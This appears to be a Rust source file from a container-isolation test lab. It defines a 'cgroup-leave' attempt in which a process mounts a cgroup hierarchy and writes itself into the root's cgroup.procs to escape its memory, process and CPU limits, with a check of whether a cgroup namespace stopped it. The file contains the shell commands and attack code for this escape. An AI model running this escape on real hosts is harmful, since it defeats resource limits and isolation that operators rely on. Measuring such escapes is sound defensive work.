//! cgroup-leave: move out of the control group, and so out of every limit.

use super::{Attempt, Measured, Need};
use crate::attacker::Failed;
use crate::refusals::Refusal;
use crate::{Attacker, Host, Seen};
use nix::errno::Errno;
use nix::libc;

/// The attempt.
pub const ATTEMPT: Attempt = Attempt {
    id: "cgroup-leave",
    stake: "Every limit of the container: memory, processes and CPU time are counted by the group.",
    story: "The attacker mounts the hierarchy that counts processes, and writes 0, which means itself, to the list \
            of processes of its root. On the host that moves it out of its group and out of the group's limits. \
            In a cgroup namespace the root of such a mount is the container's own group, so leaving leads to where \
            it already is; and without CAP_SYS_ADMIN there is no mount. The host looks where the process is \
            afterwards.",
    by_hand: &[
        "mkdir -p /tmp/groups && mount -t cgroup -o pids groups /tmp/groups    # -t cgroup2 where there is no v1",
        "echo 0 > /tmp/groups/cgroup.procs",
    ],
    stopped_by: &["lab1-namespaces/cgroup-namespace"],
    after: &[],
    man: &["cgroups(7)", "cgroup_namespaces(7)"],
    letters: Measured { root: "E EBBBBBB", user: "E EBBBBBB", rootless: "I IIIIIII" },
    needs: &[Need::FreshHost, Need::Group],
    decisive: &[
        libc::SYS_mount,
        libc::SYS_fsopen,
        libc::SYS_fsconfig,
        libc::SYS_fsmount,
        libc::SYS_openat,
        libc::SYS_openat2,
        libc::SYS_write,
        libc::SYS_mkdirat,
    ],
    attack,
    class: Refusal::Group,
    witness,
};

fn attack(me: &mut Attacker) -> Result<(), Failed> {
    let (kind, options) = (me.given("cgroup"), me.given("cgroup-options"));
    // A hierarchy that somebody has left there. The one that it mounts then decides.
    if let Ok(left) = me.open(&format!("/sys/fs/cgroup/{options}"), libc::O_PATH | libc::O_DIRECTORY) {
        let _ = me.write_to_group(left, "cgroup.procs", "0");
    }
    let groups = me.new_mount(kind, options)?;
    match me.write_to_group(groups, "cgroup.procs", "0") {
        // A v2 group that gives controllers on holds no process: a new group beside the old one then.
        Err(Failed::Refused(Errno::EBUSY)) => {
            me.make_group(groups, "out")?;
            me.write_to_group(groups, "out/cgroup.procs", "0")
        }
        other => other,
    }
}

fn witness(host: &Host) -> Seen {
    let (Some(before), Some(after)) = (&host.group.0.place, &host.group.1.place) else {
        return Seen::Nothing;
    };
    // Only below its own group is it where the host has put it.
    if before.is_empty() || before.starts_with('/') {
        return Seen::Unclear("the program had left the control group that the host gave it".into());
    }
    if !after.strip_prefix(before.as_str()).is_some_and(|rest| rest.is_empty() || rest.starts_with('/')) {
        return Seen::Effect("the attacker is no longer in the control group that the host gave it".into());
    }
    if host.call_succeeded() && host.shares("cgroup") == Some(false) {
        return Seen::Confined("after it had moved itself it was in the same group as before".into());
    }
    Seen::Nothing
}
